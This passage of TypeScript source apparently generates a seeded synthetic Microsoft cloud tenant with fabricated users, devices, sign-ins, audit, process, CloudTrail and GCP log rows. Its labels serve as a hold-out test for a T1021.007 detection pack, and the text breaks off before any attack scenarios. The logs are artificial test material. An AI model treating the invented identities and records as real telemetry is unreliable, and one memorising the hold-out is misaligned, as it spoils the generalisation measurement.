// Hold-out tenant generator: an independent second tenant for measuring the T1021.007 pack.
// Written from ../shared/DOMAIN.md, the built-in table schemas and public documentation only
// (not from src/simulate/ or rules/), so that the pack's figures on it say how well it generalises.
// Seeded: the same seed gives the same tenant.
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';

export interface GenOptions { seed: number; users?: number; outDir: string }

export type BenignClass =
  | 'regular' | 'traveller' | 'vpn' | 'devops' | 'cloud-admin' | 'cicd' | 'monitoring' | 'hybrid-agent' | 'risk-remediated'
  // benign events on the attack day that a baseline legitimately has not seen (the hard cases)
  | 'hard-conference-trip' | 'hard-new-hire' | 'hard-new-paw' | 'hard-new-home-ip' | 'hard-admin-trip' | 'hard-sase-egress';

/** A benign event on the attack day that a 14-day baseline has legitimately not seen. */
export interface HardCase { cls: BenignClass; indicators: string[]; window: [string, string] }

export interface Scenario {
  id: string;
  name: string;
  /** Indicators only the attack has (attacker IPs, hosts, created principals). */
  unique: string[];
  /** Identities abused by the attack (also active benignly): count only inside the window. */
  accounts: string[];
  window: [string, string];
  /** Row ids (Id / ReportId / AwsEventId / InsertId) per table. */
  rows: Record<string, string[]>;
}

export interface Labels {
  seed: number;
  tenantDomain: string;
  historyStart: string;
  attackDay: string;
  scenarios: Scenario[];
  /** Indicator (lower-case) → benign classes of the actors owning it. */
  actors: Record<string, BenignClass[]>;
  hard: HardCase[];
  counts: Record<string, number>;
}

// ---------------------------------------------------------------- randomness
function rng(seed: number): () => number {
  let a = (seed * 2654435761) >>> 0 || 1;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

// ---------------------------------------------------------------- facts
const APPS = {
  azcli: ['Microsoft Azure CLI', '04b07795-8ddb-461a-bbee-02f9e1bf7b46'],
  azps: ['Microsoft Azure PowerShell', '1950a258-227b-4e31-a9cf-717495945fc2'],
  graphps: ['Microsoft Graph Command Line Tools', '14d82eec-204b-4c2f-b7e8-296a70dab67e'],
  exo: ['Microsoft Exchange Online PowerShell', 'fb78d390-0c51-40cd-8e17-fdbfab77341b'],
  aadps: ['Azure Active Directory PowerShell', '1b730954-1685-4b74-9bfd-dac224a7b894'],
  portal: ['Azure Portal', 'c44b4083-3bb0-49c1-b47d-974e53cbdf3c'],
  outlook: ['Microsoft Outlook', '5d661950-3475-41cd-a2c3-d671a3162bc1'],
  teams: ['Microsoft Teams', '1fec8e78-bce4-4aaf-ab1b-5451cc387264'],
  office: ['Office 365', '4765445b-32c6-49b0-83e6-1d93765276ca'],
  onedrive: ['OneDrive SyncEngine', 'ab9b8c07-8f02-4f72-87fa-80105867a763'],
  aadsync: ['Microsoft Azure Active Directory Connect', 'cb1056e2-e479-49de-ae31-7812af012ed8'],
  awssso: ['AWS IAM Identity Center', '3b4a2c5e-9d1f-4e7a-8c6b-2f0e1d3a4b5c'],
  gcpsso: ['Google Cloud', '7e2d9f1a-5c3b-4a8e-9f6d-1b2c3d4e5f60'],
} as const;
type AppKey = keyof typeof APPS;
const RESOURCES: Record<string, [string, string]> = {
  arm: ['Windows Azure Service Management API', '797f4846-ba00-4fd7-ba43-dac1f8f63013'],
  graph: ['Microsoft Graph', '00000003-0000-0000-c000-000000000000'],
  aadgraph: ['Windows Azure Active Directory', '00000002-0000-0000-c000-000000000000'],
  exo: ['Office 365 Exchange Online', '00000002-0000-0ff1-ce00-000000000000'],
  spo: ['Office 365 SharePoint Online', '00000003-0000-0ff1-ce00-000000000000'],
};

interface Site { cc: string; country: string; city: string; state: string; lat: number; lon: number; net: string; tz: number }
// Offices (egress /24s are public-looking, none private; each office NATs many users).
const OFFICES: Site[] = [
  { cc: 'US', country: 'United States', city: 'Minneapolis', state: 'Minnesota', lat: 44.98, lon: -93.27, net: '66.231.84', tz: -6 },
  { cc: 'DE', country: 'Germany', city: 'Hamburg', state: 'Hamburg', lat: 53.55, lon: 9.99, net: '91.198.37', tz: 1 },
  { cc: 'SG', country: 'Singapore', city: 'Singapore', state: 'Singapore', lat: 1.29, lon: 103.85, net: '116.12.52', tz: 8 },
  { cc: 'MX', country: 'Mexico', city: 'Guadalajara', state: 'Jalisco', lat: 20.67, lon: -103.35, net: '187.189.44', tz: -6 },
];
const HOME_NETS: Record<string, string[]> = {
  US: ['73.162', '98.207', '24.118'], DE: ['84.150', '93.204', '79.217'], SG: ['118.200', '220.255'], MX: ['189.203', '201.141'],
};
const TRAVEL: Site[] = [
  { cc: 'GB', country: 'United Kingdom', city: 'London', state: 'England', lat: 51.51, lon: -0.13, net: '81.2.69', tz: 0 },
  { cc: 'JP', country: 'Japan', city: 'Osaka', state: 'Osaka', lat: 34.69, lon: 135.5, net: '153.156.7', tz: 9 },
  { cc: 'FR', country: 'France', city: 'Lyon', state: 'Auvergne-Rhone-Alpes', lat: 45.76, lon: 4.84, net: '90.84.22', tz: 1 },
  { cc: 'CA', country: 'Canada', city: 'Toronto', state: 'Ontario', lat: 43.65, lon: -79.38, net: '142.114.9', tz: -5 },
];
const VPN_EGRESS: Site = { cc: 'US', country: 'United States', city: 'Ashburn', state: 'Virginia', lat: 39.04, lon: -77.49, net: '52.167.230', tz: -5 };
const FIRST = ['Amara', 'Bjorn', 'Chen', 'Dalia', 'Elif', 'Farid', 'Greta', 'Hiro', 'Ines', 'Jonas', 'Kavya', 'Liam', 'Mateo', 'Nadia', 'Oskar', 'Priya', 'Quinn', 'Rafael', 'Sanne', 'Tomas', 'Uma', 'Viktor', 'Wen', 'Ximena', 'Yusuf', 'Zofia', 'Aiko', 'Bruno', 'Carmen', 'Dev'];
const LAST = ['Okafor', 'Lindqvist', 'Tanaka', 'Mendoza', 'Schreiber', 'Nair', 'Hoffmann', 'Castillo', 'Wong', 'Brennan', 'Kowalski', 'Ferreira', 'Ishikawa', 'Novak', 'Rahman', 'Dubois', 'Moreau', 'Petrov', 'Sato', 'Vargas', 'Yilmaz', 'Zhang', 'Abbott', 'Becker', 'Iyer'];

type Os = 'Windows' | 'macOS' | 'Linux';
interface Device { name: string; id: string; os: Os; owner?: User; fqdn: string }
interface User {
  first: string; last: string; upn: string; sam: string; id: string; display: string; sid: string;
  home: Site; homeNet: string; cls: BenignClass; device: Device; synced: boolean; admin?: User;
}

// ---------------------------------------------------------------- generator
export function generate(o: GenOptions): Labels {
  const r = rng(o.seed);
  const pick = <T>(a: readonly T[]): T => a[Math.floor(r() * a.length)]!;
  const int = (lo: number, hi: number): number => lo + Math.floor(r() * (hi - lo + 1));
  const hex = (n: number): string => Array.from({ length: n }, () => Math.floor(r() * 16).toString(16)).join('');
  const guid = (): string => `${hex(8)}-${hex(4)}-4${hex(3)}-${pick(['8', '9', 'a', 'b'])}${hex(3)}-${hex(12)}`;
  const nUsers = o.users ?? 300;
  const domain = 'northwind-intl.com';
  const tenantDomain = 'nwintl.onmicrosoft.com';
  const tenantId = guid();
  const ntDomain = 'NWINTL';
  const awsAcct = String(int(100000000000, 999999999999));
  const gcpProject = `nw-platform-${hex(4)}`;

  // history: 14 days, then the attack day (a weekday)
  const start = new Date(Date.UTC(2025, 2, 3) + int(0, 200) * 86400000);
  let attack = new Date(start.getTime() + 14 * 86400000);
  while (attack.getUTCDay() === 0 || attack.getUTCDay() === 6) attack = new Date(attack.getTime() + 86400000);
  const days: Date[] = [];
  for (let d = new Date(attack.getTime() - 14 * 86400000); d <= attack; d = new Date(d.getTime() + 86400000)) days.push(d);
  const historyStart = days[0]!;

  const tables: Record<string, Record<string, unknown>[]> = {
    SigninLogs: [], AADNonInteractiveUserSignInLogs: [], AuditLogs: [], DeviceProcessEvents: [], AWSCloudTrail: [], GCPAuditLogs: [],
  };
  const actors = new Map<string, Set<BenignClass>>();
  const own = (cls: BenignClass, ...keys: string[]): void => {
    for (const k of keys) { const kk = k.toLowerCase(); if (!actors.has(kk)) actors.set(kk, new Set()); actors.get(kk)!.add(cls); }
  };
  let cur: { rows: Record<string, string[]> } | null = null;
  const hardCases: HardCase[] = [];
  const hardCase = (cls: BenignClass, indicators: string[], from: number, to: number): void => { hardCases.push({ cls, indicators, window: [new Date(from).toISOString(), new Date(to).toISOString()] }); own(cls, ...indicators.filter((x) => x.includes('.') && /\d/.test(x))); };
  const mark = (table: string, id: string): void => { if (cur) (cur.rows[table] ??= []).push(id); };

  // ---------- people and devices
  const used = new Set<string>();
  const users: User[] = [];
  const mkDevice = (u: { first: string; last: string; sam: string } | null, os: Os, prefix: string): Device => {
    let name: string;
    if (os === 'macOS') name = u ? `${u.first.toLowerCase()}s-macbook-pro` : `${prefix}-mac${int(10, 99)}`;
    else if (os === 'Linux') name = u ? `${u.sam}-ubuntu` : `${prefix}${int(10, 99)}`;
    else name = u ? `${prefix}${int(1000, 9999)}` : `${prefix}${int(10, 99)}`;
    while (used.has(name)) name += int(0, 9);
    used.add(name);
    const fqdn = os === 'Windows' ? `${name.toLowerCase()}.corp.${domain}` : name.toLowerCase();
    return { name, id: hex(40), os, fqdn };
  };
  const classes: BenignClass[] = [];
  for (let i = 0; i < nUsers; i++) {
    const x = r();
    classes.push(x < 0.08 ? 'devops' : x < 0.11 ? 'cloud-admin' : x < 0.17 ? 'traveller' : x < 0.22 ? 'vpn' : x < 0.25 ? 'risk-remediated' : 'regular');
  }
  // enough of each for the attacks
  classes[0] = 'devops'; classes[1] = 'devops'; classes[2] = 'cloud-admin'; classes[3] = 'cloud-admin'; classes[4] = 'regular'; classes[5] = 'regular'; classes[6] = 'regular';
  for (let i = 0; i < nUsers; i++) {
    let first: string, last: string, sam: string, upn: string;
    do {
      first = pick(FIRST); last = pick(LAST);
      sam = (first[0]! + last).toLowerCase().slice(0, 12);
      upn = `${first.toLowerCase()}.${last.toLowerCase()}@${domain}`;
      if (used.has(sam) || used.has(upn)) { sam += int(1, 9); upn = `${first.toLowerCase()}.${last.toLowerCase()}${int(2, 99)}@${domain}`; }
    } while (used.has(sam) || used.has(upn));
    used.add(sam); used.add(upn);
    const home = i < 7 ? OFFICES[i % 2]! : pick(OFFICES);
    const cls = classes[i]!;
    const os: Os = cls === 'devops' ? pick(['macOS', 'Linux', 'Windows'] as Os[]) : cls === 'cloud-admin' ? 'Windows' : r() < 0.3 ? 'macOS' : 'Windows';
    const prefix = `${home.cc.toLowerCase()}-lt`;
    const u: User = {
      first, last, sam, upn, id: guid(), display: `${first} ${last}`, sid: `S-1-5-21-3623811015-3361044348-30300820-${int(1100, 99999)}`,
      home, homeNet: `${pick(HOME_NETS[home.cc]!)}.${int(0, 255)}.${int(1, 254)}`, cls, synced: true, device: null as unknown as Device,
    };
    u.device = mkDevice(u, os, prefix); u.device.owner = u;
    users.push(u);
    own(cls, u.upn, u.sam, u.device.name, u.device.fqdn);
  }
  // numbered, synced admin accounts (adm-<sam>) for cloud admins and some devops; cloud admins use PAWs
  const paws: Device[] = [];
  for (const u of users) {
    if (u.cls === 'cloud-admin' || (u.cls === 'devops' && r() < 0.3)) {
      const a: User = { ...u, sam: `adm-${u.sam}`, upn: `adm-${u.sam}@${domain}`, id: guid(), display: `${u.display} (Admin)`, sid: `S-1-5-21-3623811015-3361044348-30300820-${int(100000, 199999)}`, device: u.device };
      if (u.cls === 'cloud-admin') { const p = mkDevice(null, 'Windows', `paw-${u.home.cc.toLowerCase()}-`); p.owner = a; paws.push(p); a.device = p; own('cloud-admin', p.name, p.fqdn); }
      u.admin = a; own(u.cls, a.upn, a.sam);
    }
  }
  // Defender fills AccountObjectId (the Entra object id) for Entra / hybrid accounts on Windows, not for local Linux / macOS accounts
  const objectIdOf = new Map<string, string>();
  for (const u of users) { objectIdOf.set(u.sam, u.id); if (u.admin) objectIdOf.set(u.admin.sam, u.admin.id); }
  // servers
  const syncHost = mkDevice(null, 'Windows', 'AADC');
  const syncId = hex(12);
  const syncUpn = `Sync_${syncHost.name}_${syncId}@${tenantDomain}`;
  const syncIp = `${OFFICES[0]!.net}.${int(200, 250)}`;
  own('hybrid-agent', syncHost.name, syncHost.fqdn, syncUpn, syncIp);
  const arcHosts = [mkDevice(null, 'Linux', 'arc-db'), mkDevice(null, 'Windows', 'ARC-FS'), mkDevice(null, 'Linux', 'arc-web')];
  for (const h of arcHosts) own('hybrid-agent', h.name, h.fqdn);
  const ciAgents = [mkDevice(null, 'Linux', 'buildkite-agent-'), mkDevice(null, 'Linux', 'gha-runner-'), mkDevice(null, 'Windows', 'ADO-AGENT')];
  const ciIps = ciAgents.map(() => `20.${int(40, 120)}.${int(0, 255)}.${int(1, 254)}`);
  ciAgents.forEach((h, i) => own('cicd', h.name, h.fqdn, ciIps[i]!));
  const monHost = mkDevice(null, 'Linux', 'cloudwatchtower');
  const monIp = `${OFFICES[1]!.net}.${int(200, 250)}`;
  own('monitoring', monHost.name, monHost.fqdn, 'svc-cloudmon', monIp);
  const ec2Host = mkDevice(null, 'Linux', 'ip-10-40-3-');
  const instanceId = `i-0${hex(16)}`;
  const ec2Ip = `3.${int(64, 127)}.${int(0, 255)}.${int(1, 254)}`;
  own('cicd', ec2Host.name, instanceId, ec2Ip);

  // ---------- time helpers
  const iso = (t: number): string => new Date(t).toISOString().replace(/\.(\d{3})Z$/, '.$1Z');
  const workTime = (day: Date, site: Site): number => {
    const localH = 8 + r() * 10; // 08:00–18:00 local
    return day.getTime() + ((localH - site.tz + 24) % 24) * 3600000 + Math.floor(r() * 60000);
  };
  const isWeekend = (d: Date): boolean => d.getUTCDay() === 0 || d.getUTCDay() === 6;

  // ---------- row builders
  const loc = (s: Site) => ({ city: s.city, state: s.state, countryOrRegion: s.cc, geoCoordinates: { latitude: s.lat + (r() - 0.5) * 0.1, longitude: s.lon + (r() - 0.5) * 0.1 } });
  const browserOf = (os: Os): string => (os === 'macOS' ? 'Safari 17.4' : os === 'Linux' ? 'Firefox 124.0' : 'Edge 122.0.0');
  interface SignIn {
    t: number; u: { upn: string; display: string; id: string }; app: AppKey; res: string; ip: string; site: Site; dev?: Device | null;
    interactive: boolean; ua?: string; result?: string; risk?: string; riskState?: string; riskEvents?: string[]; anon?: boolean; mfa?: boolean; tokenIssuer?: string;
  }
  const signIn = (s: SignIn): string => {
    const [appName, appId] = APPS[s.app];
    const [resName, resId] = RESOURCES[s.res]!;
    const id = guid();
    const result = s.result ?? '0';
    const status = result === '0' ? { errorCode: 0, additionalDetails: s.mfa ? 'MFA requirement satisfied by claim in the token' : undefined } : { errorCode: Number(result), failureReason: result === '50126' ? 'Error validating credentials due to invalid username or password.' : 'Strong Authentication is required.' };
    const osName = s.dev ? (s.dev.os === 'Windows' ? 'Windows 10' : s.dev.os === 'macOS' ? 'MacOs' : 'Linux') : pick(['Windows 10', 'MacOs']);
    const dd = { deviceId: s.dev ? s.dev.id.slice(0, 36) : '', displayName: s.dev ? s.dev.name : '', operatingSystem: osName, browser: s.interactive ? browserOf(s.dev?.os ?? 'Windows') : '', isCompliant: !!s.dev, isManaged: !!s.dev, trustType: s.dev ? (s.dev.os === 'Windows' ? 'Hybrid Azure AD joined' : 'Azure AD registered') : '' };
    const ld = loc(s.site);
    const row: Record<string, unknown> = {
      TenantId: tenantId, AADTenantId: tenantId, HomeTenantId: tenantId, ResourceTenantId: tenantId, SourceSystem: 'Azure AD', Type: s.interactive ? 'SigninLogs' : 'AADNonInteractiveUserSignInLogs',
      TimeGenerated: iso(s.t + int(60, 400) * 1000), CreatedDateTime: iso(s.t), Id: id, CorrelationId: guid(), OriginalRequestId: id, UniqueTokenIdentifier: hex(22),
      OperationName: 'Sign-in activity', OperationVersion: '1.0', Category: s.interactive ? 'SignInLogs' : 'NonInteractiveUserSignInLogs', Level: '4',
      UserPrincipalName: s.u.upn, UserDisplayName: s.u.display, UserId: s.u.id, Identity: s.u.display, UserType: 'Member', AlternateSignInName: s.u.upn, SignInIdentifier: s.u.upn,
      AppDisplayName: appName, AppId: appId, ResourceDisplayName: resName, ResourceIdentity: resId, ResourceId: `/tenants/${tenantId}/providers/Microsoft.aadiam`,
      IPAddress: s.ip, Location: s.site.cc, AutonomousSystemNumber: String(int(1000, 60000)),
      ResultType: result, ResultSignature: result === '0' ? 'SUCCESS' : 'FAILURE', ResultDescription: result === '0' ? '' : (status as { failureReason?: string }).failureReason,
      ClientAppUsed: s.interactive ? (s.app === 'outlook' || s.app === 'teams' ? 'Mobile Apps and Desktop clients' : 'Browser') : 'Mobile Apps and Desktop clients',
      IsInteractive: s.interactive, IsRisky: !!s.risk && s.risk !== 'none' && s.riskState === 'atRisk',
      UserAgent: s.ua ?? (s.interactive ? 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36 Edg/122.0.0.0' : ''),
      RiskLevelDuringSignIn: s.risk ?? 'none', RiskLevelAggregated: s.risk ?? 'none', RiskState: s.riskState ?? 'none', RiskDetail: s.riskState === 'remediated' ? 'userPassedMFADrivenByRiskBasedPolicy' : 'none',
      RiskEventTypes: JSON.stringify(s.riskEvents ?? []), RiskEventTypes_V2: JSON.stringify(s.riskEvents ?? []),
      NetworkLocationDetails: s.anon ? '[{"networkType":"anonymizedIPAddress","networkNames":[]}]' : s.site === VPN_EGRESS ? '[{"networkType":"namedNetwork","networkNames":["Corp VPN"]}]' : '[]',
      AuthenticationRequirement: s.mfa ? 'multiFactorAuthentication' : 'singleFactorAuthentication', ConditionalAccessStatus: 'success',
      TokenIssuerType: s.tokenIssuer ?? 'AzureAD', TokenIssuerName: '', AuthenticationProtocol: s.interactive ? 'none' : 'none', IncomingTokenType: s.interactive ? 'none' : 'refreshToken',
      SessionId: guid(), ProcessingTimeInMilliseconds: String(int(40, 400)), IsTenantRestricted: false, IsThroughGlobalSecureAccess: false, CrossTenantAccessType: 'none',
    };
    const mfaD = s.mfa ? { authMethod: 'Mobile app notification', authDetail: '' } : {};
    if (s.interactive) { row.LocationDetails = ld; row.DeviceDetail = dd; row.Status = status; row.MfaDetail = mfaD; row.ConditionalAccessPolicies = []; tables.SigninLogs!.push(row); mark('SigninLogs', id); }
    else { row.LocationDetails = JSON.stringify(ld); row.DeviceDetail = JSON.stringify(dd); row.Status = JSON.stringify(status); row.MfaDetail = JSON.stringify(mfaD); row.ConditionalAccessPolicies = '[]'; tables.AADNonInteractiveUserSignInLogs!.push(row); mark('AADNonInteractiveUserSignInLogs', id); }
    return id;
  };

  let pid = 4000;
  interface Proc { t: number; dev: Device; acct: { sam: string; upn: string; sid: string } | null; file: string; folder: string; cmd: string; parent: string; parentCmd: string; grand?: string; system?: boolean }
  const proc = (p: Proc): string => {
    const id = String(int(1000, 999999) * 1000 + int(0, 999));
    const acct = p.system ? { sam: 'system', upn: '', sid: 'S-1-5-18' } : p.acct!;
    const dom = p.system ? 'nt authority' : p.dev.os === 'Windows' ? ntDomain.toLowerCase() : p.dev.name.toLowerCase();
    const tt = iso(p.t);
    tables.DeviceProcessEvents!.push({
      TenantId: tenantId, Type: 'DeviceProcessEvents', SourceSystem: '', Timestamp: tt, TimeGenerated: iso(p.t + int(30, 300) * 1000), DeviceId: p.dev.id, DeviceName: p.dev.fqdn,
      ActionType: 'ProcessCreated', FileName: p.file, FolderPath: p.folder, ProcessCommandLine: p.cmd, ProcessId: (pid += int(4, 400)), ProcessCreationTime: tt,
      ProcessIntegrityLevel: p.system ? 'System' : 'Medium', ProcessTokenElevation: 'TokenElevationTypeDefault',
      AccountDomain: dom, AccountName: acct.sam, AccountSid: acct.sid, AccountUpn: p.dev.os === 'Windows' || p.dev.os === 'macOS' ? acct.upn : '', AccountObjectId: p.dev.os === 'Windows' && !p.system ? (objectIdOf.get(acct.sam) ?? '') : '',
      InitiatingProcessFileName: p.parent, InitiatingProcessCommandLine: p.parentCmd, InitiatingProcessFolderPath: '', InitiatingProcessAccountName: acct.sam, InitiatingProcessAccountDomain: dom,
      InitiatingProcessAccountUpn: acct.upn, InitiatingProcessAccountSid: acct.sid, InitiatingProcessParentFileName: p.grand ?? (p.dev.os === 'Windows' ? 'explorer.exe' : p.dev.os === 'macOS' ? 'launchd' : 'sshd'),
      InitiatingProcessId: pid - 1, SHA256: hex(64), SHA1: hex(40), MD5: hex(32), ReportId: Number(id), MachineGroup: '',
    });
    mark('DeviceProcessEvents', id);
    return id;
  };

  // command spellings per platform
  const azCmd = (dev: Device, sub: string): Pick<Proc, 'file' | 'folder' | 'cmd' | 'parent' | 'parentCmd'> => {
    if (dev.os === 'Windows') {
      const v = r();
      if (v < 0.5) return { file: 'python.exe', folder: 'C:\\Program Files\\Microsoft SDKs\\Azure\\CLI2\\python.exe', cmd: `"C:\\Program Files\\Microsoft SDKs\\Azure\\CLI2\\python.exe" -IBm azure.cli ${sub}`, parent: 'cmd.exe', parentCmd: `C:\\WINDOWS\\system32\\cmd.exe /d /c "C:\\Program Files\\Microsoft SDKs\\Azure\\CLI2\\wbin\\az.cmd" ${sub}` };
      if (v < 0.8) return { file: 'cmd.exe', folder: 'C:\\Windows\\System32\\cmd.exe', cmd: `C:\\WINDOWS\\system32\\cmd.exe /d /c "C:\\Program Files\\Microsoft SDKs\\Azure\\CLI2\\wbin\\az.cmd" ${sub}`, parent: 'pwsh.exe', parentCmd: '"C:\\Program Files\\PowerShell\\7\\pwsh.exe" -NoLogo' };
      return { file: 'python.exe', folder: 'C:\\Users\\dev\\.venvs\\ops\\Scripts\\python.exe', cmd: `python -m azure.cli ${sub}`, parent: 'WindowsTerminal.exe', parentCmd: 'wt.exe' };
    }
    if (dev.os === 'macOS') return { file: 'python3.12', folder: '/opt/homebrew/Cellar/azure-cli/2.61.0/libexec/bin/python3.12', cmd: `/opt/homebrew/Cellar/azure-cli/2.61.0/libexec/bin/python -Im azure.cli ${sub}`, parent: 'zsh', parentCmd: '-zsh' };
    return { file: 'python3', folder: '/opt/az/bin/python3', cmd: `/opt/az/bin/python3 -Im azure.cli ${sub}`, parent: 'bash', parentCmd: '-bash' };
  };
  const awsCmd = (dev: Device, sub: string): Pick<Proc, 'file' | 'folder' | 'cmd' | 'parent' | 'parentCmd'> => {
    if (dev.os === 'Windows') return { file: 'aws.exe', folder: 'C:\\Program Files\\Amazon\\AWSCLIV2\\aws.exe', cmd: `"C:\\Program Files\\Amazon\\AWSCLIV2\\aws.exe" ${sub}`, parent: 'powershell.exe', parentCmd: 'powershell.exe' };
    if (dev.os === 'macOS') return { file: 'aws', folder: '/usr/local/aws-cli/aws', cmd: `/usr/local/aws-cli/aws ${sub}`, parent: 'zsh', parentCmd: '-zsh' };
    return { file: 'aws', folder: '/usr/local/aws-cli/v2/current/dist/aws', cmd: `aws ${sub}`, parent: 'bash', parentCmd: '-bash' };
  };
  const gcloudCmd = (dev: Device, sub: string): Pick<Proc, 'file' | 'folder' | 'cmd' | 'parent' | 'parentCmd'> => {
    if (dev.os === 'Windows') return { file: 'python.exe', folder: 'C:\\Users\\dev\\AppData\\Local\\Google\\Cloud SDK\\google-cloud-sdk\\platform\\bundledpython\\python.exe', cmd: `"C:\\Users\\dev\\AppData\\Local\\Google\\Cloud SDK\\google-cloud-sdk\\platform\\bundledpython\\python.exe" "C:\\Users\\dev\\AppData\\Local\\Google\\Cloud SDK\\google-cloud-sdk\\lib\\gcloud.py" ${sub}`, parent: 'cmd.exe', parentCmd: 'cmd.exe /c gcloud.cmd ' + sub };
    if (dev.os === 'macOS') return { file: 'python3', folder: '/opt/homebrew/opt/python@3.11/bin/python3.11', cmd: `/opt/homebrew/opt/python@3.11/bin/python3.11 /opt/homebrew/Caskroom/google-cloud-sdk/latest/google-cloud-sdk/lib/gcloud.py ${sub}`, parent: 'zsh', parentCmd: '-zsh' };
    return { file: 'python3', folder: '/usr/bin/python3', cmd: `/usr/bin/python3 /usr/lib/google-cloud-sdk/lib/gcloud.py ${sub}`, parent: 'bash', parentCmd: '-bash' };
  };
  const pwshCmd = (dev: Device, script: string): Pick<Proc, 'file' | 'folder' | 'cmd' | 'parent' | 'parentCmd'> => {
    if (dev.os === 'Windows' && r() < 0.4) return { file: 'powershell.exe', folder: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', cmd: `powershell.exe -NoProfile -Command "${script}"`, parent: 'explorer.exe', parentCmd: 'C:\\WINDOWS\\Explorer.EXE' };
    if (dev.os === 'Windows') return { file: 'pwsh.exe', folder: 'C:\\Program Files\\PowerShell\\7\\pwsh.exe', cmd: `"C:\\Program Files\\PowerShell\\7\\pwsh.exe" -NoExit -Command ${script}`, parent: 'WindowsTerminal.exe', parentCmd: 'wt.exe' };
    return { file: 'pwsh', folder: dev.os === 'macOS' ? '/usr/local/microsoft/powershell/7/pwsh' : '/opt/microsoft/powershell/7/pwsh', cmd: `pwsh -c "${script}"`, parent: dev.os === 'macOS' ? 'zsh' : 'bash', parentCmd: '-zsh' };
  };

  let ctSeq = 0;
  interface Ct { t: number; name: string; src: string; type: string; arn: string; principal: string; ua: string; ip: string; mfa?: boolean; issuer?: string; issuerType?: string; key?: string; req?: unknown; resp?: unknown; add?: unknown; err?: string; user?: string; ro?: boolean; consoleType?: boolean }
  const ct = (c: Ct): string => {
    const id = `${hex(8)}-${hex(4)}-${hex(4)}-${hex(4)}-${hex(12)}`;
    ctSeq++;
    tables.AWSCloudTrail!.push({
      TenantId: tenantId, Type: 'AWSCloudTrail', TimeGenerated: iso(c.t), AwsEventId: id, AwsRequestId: guid(), EventVersion: c.consoleType ? '1.09' : '1.08', EventSource: c.src,
      EventTypeName: c.consoleType ? 'AwsConsoleSignIn' : 'AwsApiCall', EventName: c.name, UserIdentityType: c.type, UserIdentityArn: c.arn, UserIdentityPrincipalid: c.principal,
      UserIdentityAccountId: awsAcct, UserIdentityAccessKeyId: c.key ?? '', UserIdentityUserName: c.user ?? '', SessionMfaAuthenticated: c.mfa ?? false,
      SessionCreationDate: c.issuer ? iso(c.t - int(60, 3000) * 1000) : null, SessionIssuerType: c.issuerType ?? (c.issuer ? 'Role' : ''), SessionIssuerArn: c.issuer ? `arn:aws:iam::${awsAcct}:role/${c.issuer}` : '',
      SessionIssuerUserName: c.issuer ?? '', SessionIssuerAccountId: c.issuer ? awsAcct : '', SessionIssuerPrincipalId: c.issuer ? `AROA${hex(16).toUpperCase()}` : '',
      AWSRegion: c.src === 'signin.amazonaws.com' ? 'us-east-1' : pick(['us-east-1', 'eu-central-1', 'ap-southeast-1']), SourceIpAddress: c.ip, UserAgent: c.ua,
      ErrorCode: c.err ?? '', ErrorMessage: '', RequestParameters: c.req === undefined ? '' : JSON.stringify(c.req), ResponseElements: c.resp === undefined ? '' : JSON.stringify(c.resp),
      AdditionalEventData: c.add === undefined ? '' : JSON.stringify(c.add), RecipientAccountId: awsAcct, ReadOnly: c.ro ?? false, ManagementEvent: true,
      EC2RoleDelivery: c.principal.includes(':i-') ? '2.0' : '', TlsVersion: 'TLSv1.3', CipherSuite: 'TLS_AES_128_GCM_SHA256', ClientProvidedHostHeader: `${c.src.split('.')[0]}.amazonaws.com`,
    });
    mark('AWSCloudTrail', id);
    return id;
  };
  const gcp = (t: number, email: string, method: string, service: string, ip: string, ua: string, resource: string): string => {
    const id = hex(12);
    tables.GCPAuditLogs!.push({
      TenantId: tenantId, Type: 'GCPAuditLogs', TimeGenerated: iso(t + 20000), Timestamp: iso(t), ServiceName: service, MethodName: method, PrincipalEmail: email,
      AuthenticationInfo: { principalEmail: email }, AuthorizationInfo: [{ permission: method.split('.').slice(-2).join('.'), granted: true, resource }],
      RequestMetadata: { callerIp: ip, callerSuppliedUserAgent: ua, requestAttributes: {}, destinationAttributes: {} }, ProjectId: gcpProject, GCPResourceName: resource,
      GCPResourceType: service.startsWith('storage') ? 'gcs_bucket' : service.startsWith('iam') ? 'service_account' : 'project', Severity: 'NOTICE', Status: {},
      LogName: `projects/${gcpProject}/logs/cloudaudit.googleapis.com%2Factivity`, InsertId: id, Request: {}, Response: {}, Metadata: {},
    });
    mark('GCPAuditLogs', id);
    return id;
  };
  const audit = (t: number, op: string, category: string, by: { upn?: string; id?: string; ip?: string; app?: string; appId?: string }, targets: Record<string, unknown>[], ua = ''): string => {
    const id = `Directory_${guid()}`;
    const initiatedBy = by.app ? { app: { displayName: by.app, appId: by.appId ?? null, servicePrincipalId: guid(), servicePrincipalName: null } } : { user: { id: by.id, displayName: null, userPrincipalName: by.upn, ipAddress: by.ip ?? '', roles: [] } };
    tables.AuditLogs!.push({
      TenantId: tenantId, AADTenantId: tenantId, Type: 'AuditLogs', SourceSystem: 'Azure AD', TimeGenerated: iso(t + 30000), ActivityDateTime: iso(t), Id: id, CorrelationId: guid(),
      OperationName: op, ActivityDisplayName: op, Category: category, Result: 'success', ResultType: '', ResultReason: '', ResultDescription: '', LoggedByService: 'Core Directory',
      AADOperationType: op.startsWith('Add') ? 'Assign' : op.startsWith('Reset') || op.startsWith('Change') ? 'Reset' : 'Update', OperationVersion: '1.0', Level: '4', Location: '',
      InitiatedBy: initiatedBy, TargetResources: targets, AdditionalDetails: ua ? [{ key: 'User-Agent', value: ua }] : [], Identity: by.upn ?? by.app ?? '', ResourceId: `/tenants/${tenantId}/providers/Microsoft.aadiam`,
    });
    mark('AuditLogs', id);
    return id;
  };
  const userTarget = (u: { id: string; upn: string; display: string }, props: { displayName: string; oldValue: string; newValue: string }[] = []) =>
    ({ id: u.id, displayName: u.display, userPrincipalName: u.upn, type: 'User', modifiedProperties: props, administrativeUnits: [] });
  const roleProp = (role: string) => [{ displayName: 'Role.DisplayName', oldValue: null, newValue: `"${role}"` }, { displayName: 'Role.TemplateId', oldValue: null, newValue: `"${guid()}"` }] as unknown as { displayName: string; oldValue: string; newValue: string }[];

  const CLI_UA = {
